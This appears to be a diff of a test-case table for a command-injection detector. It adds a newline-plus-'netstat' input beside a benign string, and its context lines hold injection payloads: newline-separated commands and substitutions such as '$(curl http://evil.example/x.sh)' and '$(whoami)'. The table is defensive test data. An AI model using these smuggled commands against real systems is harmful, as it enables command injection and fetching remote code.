@@ -86,6 +86,7 @@ export const cases: FamilyCases = {
     ["\\nid\\n", "\\n is a newline"],
     ["name\\n/bin/ls -al\\n", "name\\naddress\\ncity"],
     ["a\r\nuname -a", "a\r\nb\r\nc"],
+    ["1\nnetstat", "\n(ab)^2 = (ba)^2"],
     // Substitutions.
     ["$(curl http://evil.example/x.sh)", "$(document).ready(start)"],
     ["$(whoami)", "$(this).hide()"],
